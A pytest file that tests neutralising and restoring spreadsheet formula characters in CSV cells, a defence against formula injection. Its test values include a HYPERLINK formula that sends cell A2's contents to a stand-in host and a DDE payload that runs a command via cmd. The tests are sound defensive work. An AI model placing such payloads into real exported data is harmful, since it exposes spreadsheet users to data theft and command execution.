"""Neutralising spreadsheet formulas in CSV cells, and restoring them on import."""

from __future__ import annotations

import pytest

from app.domain.formula_cells import FORMULA_STARTS, neutralize, restore

VALUES = [
    '=HYPERLINK("http://x.example/?"&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "'=already",
    "''@twice",
    "'plain quote",
    "'",
    "plain",
    "",
    "a=b",
]


@pytest.mark.parametrize("value", VALUES)
def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(value: str) -> None:
    cell = neutralize(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert restore(cell) == value


def test_only_cells_a_spreadsheet_would_evaluate_get_a_quote() -> None:
    assert neutralize("=1+1") == "'=1+1"
    assert neutralize("'=already") == "''=already"
    assert neutralize("'plain quote") == "'plain quote"
    assert neutralize("a=b") == "a=b"


def test_the_import_removes_exactly_one_quote_and_only_before_a_formula_character() -> None:
    assert restore("'=1+1") == "=1+1"
    assert restore("''=already") == "'=already"
    assert restore("'plain quote") == "'plain quote"
    assert restore("'") == "'"
